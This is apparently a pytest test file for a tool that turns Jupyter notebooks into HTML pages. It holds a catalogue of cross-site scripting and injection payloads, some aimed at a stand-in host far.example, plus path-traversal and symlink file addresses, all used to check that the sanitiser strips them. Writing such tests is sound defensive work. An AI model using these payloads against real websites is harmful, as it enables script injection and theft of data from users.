"""A notebook that wants the site to run, load or show something: none of it gets into a page."""
import os
import re
import shutil
import subprocess
from base64 import b64encode
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import pytest
from made_site import PNG, body, build, executed, make_home
from nbformat.v4 import new_output

from tcnsc_lib.report.clean import ATTRIBUTES, INSIDE, TAGS

FAR = "https://far.example"
SECRET = b64encode(PNG).decode()
ATTACKS = {
    "script": "<script>attack()</script>",
    "script in capitals": "<SCRIPT SRC=//far.example/attack.js></SCRIPT >",
    "script left open": "<script>attack()",
    "script in a script": "<scr<script>ipt>attack()</scr</script>ipt>",
    "script in SVG": "<svg><script>attack()</script></svg>",
    "onclick": '<b onclick="attack()">x</b>',
    "onerror": "<img src=x onerror=attack()>",
    "onerror after a slash": "<img/src=x/onerror=attack()>",
    "ontoggle": '<details open ontoggle="attack()">x</details>',
    "onfocus": '<a href="#" autofocus tabindex=1 onfocus=attack()>x</a>',
    "meta refresh": f'<meta http-equiv="refresh" content="0;url={FAR}/attack">',
    "meta in quotes": f"<META HTTP-EQUIV='refresh' CONTENT='0;{FAR}/attack'>",
    "base": f'<base href="{FAR}/attack/">',
    "form": f'<form action="{FAR}/attack"><input name=a autofocus><button>go</button></form>',
    "formaction": f'<button formaction="{FAR}/attack">go</button>',
    "srcset": f'<img src="x.png" srcset="{FAR}/attack.png 2x" alt="x">',
    "picture": f'<picture><source srcset="{FAR}/attack.png"><img src="x.png"></picture>',
    "video": f'<video src="{FAR}/attack.mp4" poster="{FAR}/attack.png" autoplay></video>',
    "audio": f'<audio autoplay><source src="{FAR}/attack.mp3"></audio>',
    "track": f'<video><track src="{FAR}/attack.vtt" default></video>',
    "svg onload": "<svg onload=attack()>x</svg>",
    "svg image": f'<svg><image href="{FAR}/attack.png" xlink:href="{FAR}/attack.png"/></svg>',
    "svg use": f'<svg><use href="{FAR}/attack.svg#x"/></svg>',
    "svg in a data URI": '<img alt="x" src="data:image/svg+xml,<svg onload=attack()>">',
    "math": f'<math><mtext href="{FAR}/attack">x</mtext><style>attack</style></math>',
    "css url": f'<style>td{{background:url("{FAR}/attack.png")}}</style>',
    "css url of a Styler": f"<style>#T_1 td{{color:url({FAR}/attack.png)}}</style>",
    "css import": f'<style>@import "{FAR}/attack.css";</style>',
    "css escape": r"<style>#T_1 td{color:\75rl(https://far.example/attack.png)}</style>",
    "css that ends itself": "<style>#T_1 td{color:red</style><script>attack()</script>}</style>",
    "style attribute": f'<p style="background:url({FAR}/attack.png)">x</p>',
    "background": f'<table background="{FAR}/attack.png"><tr><td>x</td></tr></table>',
    "link": f'<link rel="stylesheet" href="{FAR}/attack.css">',
    "prefetch": f'<link rel="dns-prefetch" href="{FAR}/attack">',
    "iframe": f'<iframe src="{FAR}/attack"></iframe>',
    "iframe of text": '<iframe srcdoc="<script>attack()</script>"></iframe>',
    "object": f'<object data="{FAR}/attack.swf"><embed src="{FAR}/attack.swf"></object>',
    "frameset": f'<frameset><frame src="{FAR}/attack"></frameset>',
    "portal": f'<portal src="{FAR}/attack"></portal>',
    "javascript:": '<a href="javascript:attack()">x</a>',
    "javascript: in pieces": '<a href=" jAva\tscr&#105;pt&colon;attack()">x</a>',
    "javascript: behind a control": '<a href="\x01javascript:attack()">x</a>',
    "vbscript:": '<a href="vbscript:attack()">x</a>',
    "data: page": '<a href="data:text/html,<script>attack()</script>">x</a>',
    "file:": '<a href="file:///etc/attack">x</a>',
    "ping": f'<a href="#a" ping="{FAR}/attack">x</a>',
    "picture elsewhere": f'<img src="{FAR}/attack.png">',
    "picture of a host": '<img src="//far.example/attack.png">',
    "a table in a word": '<img src=x alt="<table onload=attack() ">',
    "words that end a tag": '<img src=x alt="&quot;><script>attack()</script>">',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=attack()>"></noscript>',
    "comment": "<!--><script>attack()</script-->",
    "template": "<template><script>attack()</script></template>",
    "end of the page": "</div></main></body></html><script>attack()</script>",
}


class Census(HTMLParser):
    """Asserts that what lies in <main> has no tag and no attribute but those that are allowed."""

    def __init__(self, text: str):
        super().__init__()
        self.feed(text.partition("<main>")[2].rpartition("</main>")[0])

    def handle_starttag(self, tag, attributes):
        assert tag in TAGS
        for name, value in attributes:
            assert name in ATTRIBUTES["*"] | ATTRIBUTES.get(tag, set()), (tag, name)
            if name == "src":
                assert INSIDE.fullmatch(value), value
            if name == "href":
                assert re.match(r"(https?:|mailto:|#|[\w.%-]+\.html)", value), value


@pytest.fixture
def home(tmp_path, monkeypatch) -> Path:
    return make_home(tmp_path, monkeypatch)


def page(home: Path, words: str, *outputs) -> str:
    nbformat.write(executed(words, *outputs), home / "notebooks/01_first.ipynb")
    return body(build(home).parent / "01_first.html")


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_an_attack_from_an_output_or_from_words_leaves_nothing(home, attack):
    output = new_output("display_data", {"text/html": attack})
    text = page(home, f"# 1. First\n\n{attack}\n\nthe end\n", output)
    Census(text)
    shown = re.sub(r"(?s)<div class=\"input_area.*?</pre>", "", text)
    tags = "".join(re.findall(r"<[^<>]*>", shown))
    assert "attack" not in tags and "far.example" not in tags
    assert text.count("<style") == 1 and "<script" not in text
    assert "1. First" in text and text.rstrip().endswith("</html>")


IMAGES = {
    "an absolute path": "{secret}", "a path upwards": "../secret.png",
    "an escaped path": "%2e%2e/secret.png", "an escaped slash": "..%2fsecret.png",
    "a path through another folder": "sub/../../secret.png", "a file: address": "file://{secret}",
    "a host": "//localhost{secret}", "a link on the disk": "linked.png",
    "a link to a folder": "linked/secret.png", "a device": "/dev/zero", "a pipe": "pipe.png",
    "a folder": "sub", "a zero byte": "near.png%00", "text with the name of a picture": "words.png"}


@pytest.mark.parametrize("address", IMAGES.values(), ids=IMAGES)
@pytest.mark.parametrize("form", ["![gone]({})", '<img alt="gone" src="{}">'], ids=["words", "tag"])
def test_a_picture_from_outside_the_notebooks_folder_isnt_shown(home, address, form):
    books = home / "notebooks"
    secret = home / "secret.png"
    secret.write_bytes(PNG)
    (books / "sub").mkdir()
    (books / "linked.png").symlink_to(secret)
    (books / "linked").symlink_to(home)
    (books / "words.png").write_text("root:x:0:0")
    os.mkfifo(books / "pipe.png")
    text = page(home, "# 1. First\n\n" + form.format(address.format(secret=secret)))
    assert "<img" not in text and SECRET not in text
    assert "<em>gone</em>" in text


def test_a_picture_in_the_notebooks_folder_is_shown(home):
    (home / "notebooks/sub").mkdir()
    (home / "notebooks/sub/a b.png").write_bytes(PNG)
    assert SECRET in page(home, "![kept](sub/a%20b.png)")


def test_a_notebooks_metadata_bring_nothing_in(home):
    notebook = executed("# 1. First")
    evil = '"><script>attack()</script>'
    notebook.cells[1].metadata = {"tags": [evil], "alt": evil, "name": evil}
    picture = new_output("display_data", {"image/png": SECRET + '" onerror="attack()'})
    notebook.cells[1].outputs = [picture, new_output("stream", text=evil)]
    notebook.metadata = {"title": evil, "kernelspec": {"name": evil, "display_name": evil}}
    nbformat.write(notebook, home / "notebooks/01_first.ipynb")
    text = body(build(home).parent / "01_first.html")
    Census(text)
    assert "<script" not in text


CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")


@pytest.mark.skipif(CHROMIUM is None, reason="no browser here")
def test_a_browser_runs_nothing_even_of_what_is_written_into_a_page(home, tmp_path):
    index = build(home)
    evil = "<script>document.title='run'</script><img src=x onerror=\"document.title='run'\">"
    index.write_text(body(index).replace("</main>", f"{evil}</main>"))
    words = [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--dump-dom",
             f"--user-data-dir={tmp_path / 'browser'}", index.as_uri()]
    done = subprocess.run(words, capture_output=True, text=True, timeout=100, check=True)
    assert "<title>TCNSC, a reproducible companion</title>" in done.stdout
